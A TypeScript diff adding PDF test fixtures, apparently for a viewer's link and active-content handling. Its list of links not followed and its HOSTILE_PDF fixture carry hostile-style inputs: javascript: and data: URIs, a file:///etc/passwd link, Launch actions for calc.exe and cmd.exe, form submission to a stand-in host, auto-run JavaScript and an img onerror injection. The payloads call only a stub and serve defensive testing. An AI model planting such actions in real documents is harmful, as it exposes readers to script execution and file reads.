@@ -82,4 +82,65 @@ export const SCRIPTED = btoa(`%PDF-1.4
 4 0 obj <</Type /Action /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('https://example.com'\\);)>> endobj
 trailer <</Root 1 0 R>>`);
 
+/** A PDF of objects, the first of which is its catalog; without a table of them, which readers make anew. */
+const fileOf = (objects: readonly string[]) =>
+  btoa(
+    `%PDF-1.4\n${objects.map((object, at) => `${at + 1} 0 obj ${object} endobj`).join('\n')}\ntrailer <</Root 1 0 R>>`,
+  );
+const stream = (text: string) => `<</Length ${text.length}>> stream\n${text}\nendstream`;
+const line = (text: string, y: number) => `BT /F1 12 Tf 20 ${y} Td (${text}) Tj ET`;
+const link = (y: number, action: string) =>
+  `<</Type /Annot /Subtype /Link /Border [0 0 0] /Rect [15 ${y - 5} 180 ${y + 13}] ${action}>>`;
+
+/** Links that lead somewhere, by what is written there. */
+const LINKS: readonly [string, string][] = [
+  ['The supplier', '/A <</S /URI /URI (https://supplier.example/terms?a=1&b=2)>>'],
+  ['Write to us', '/A <</S /URI /URI (mailto:orders@supplier.example)>>'],
+  ['Annex', '/Dest [5 0 R /XYZ 0 200 null]'],
+  ['Summary', '/A <</S /GoTo /D (summary)>>'],
+];
+/** Links that are not followed. */
+const NEVER = [
+  '/A <</S /URI /URI (javascript:hostileRan\\(\\))>>',
+  '/A <</S /URI /URI (data:text/html,<script>opener.hostileRan\\(\\)</script>)>>',
+  '/A <</S /URI /URI (file:///etc/passwd)>>',
+  '/A <</S /URI /URI (ftp://elsewhere.example/a)>>',
+  '/A <</S /URI /URI (vbscript:hostileRan)>>',
+  '/A <</S /JavaScript /JS (hostileRan\\(\\); app.launchURL\\("https://elsewhere.example"\\))>>',
+  '/A <</S /Launch /F (calc.exe)>>',
+  '/A <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>',
+  '/A <</S /GoToR /F (other.pdf) /D [0 /Fit]>>',
+  '/A <</S /SubmitForm /F (https://elsewhere.example/send)>>',
+  '/A <</S /ImportData /F (data.fdf)>>',
+  '/A <</S /Named /N /Print>>',
+  '/Dest (nowhere)',
+  '/Dest [99 /Fit]',
+];
+
+/** Three pages: the first has four links that lead somewhere, and as many as there are kinds that do not. */
+export const LINKED = fileOf([
+  `<</Type /Catalog /Pages 2 0 R /Dests <</summary [4 0 R /Fit]>>>>`,
+  `<</Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3>>`,
+  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Resources <</Font <</F1 6 0 R>>>> /Contents 7 0 R /Annots [
+    ${[...LINKS.map(([, action], at) => link(270 - at * 30, action)), ...NEVER.map((action) => link(20, action))].join('\n')}]>>`,
+  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 300]>>`,
+  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 300]>>`,
+  `<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>`,
+  stream(LINKS.map(([text], at) => line(text, 270 - at * 30)).join('\n')),
+]);
+
+/** A page that everything which can happen by itself is said of: scripts, programs, forms, addresses, a file within. */
+export const HOSTILE_PDF = fileOf([
+  `<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA <</WC 4 0 R /WP 5 0 R /DS 6 0 R>>
+    /Names <</JavaScript <</Names [(run) 4 0 R]>> /EmbeddedFiles <</Names [(a) 8 0 R]>>>> /AcroForm <</Fields [7 0 R] /XFA 9 0 R>>>>`,
+  `<</Type /Pages /Kids [3 0 R] /Count 1>>`,
+  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /AA <</O 5 0 R /C 6 0 R>> /Annots [7 0 R ${NEVER.map((action) => link(100, action)).join('\n')}]>>`,
+  `<</Type /Action /S /JavaScript /JS (hostileRan\\(\\); app.alert\\('run'\\); this.submitForm\\('https://elsewhere.example'\\);)>>`,
+  `<</Type /Action /S /URI /URI (https://elsewhere.example/opened) /Next 4 0 R>>`,
+  `<</Type /Action /S /Launch /F (https://elsewhere.example/launched)>>`,
+  `<</Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (<img src=/hostile-ping onerror=hostileRan\\(\\)>) /Rect [10 10 200 30] /AA <</K 4 0 R /F 4 0 R /V 4 0 R>> /A 4 0 R>>`,
+  `<</Type /Filespec /F (https://elsewhere.example/file) /FS /URL>>`,
+  stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>hostileRan()</script></xdp:xdp>`),
+]);
+
 export const bytesOf = (base64: string) => Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
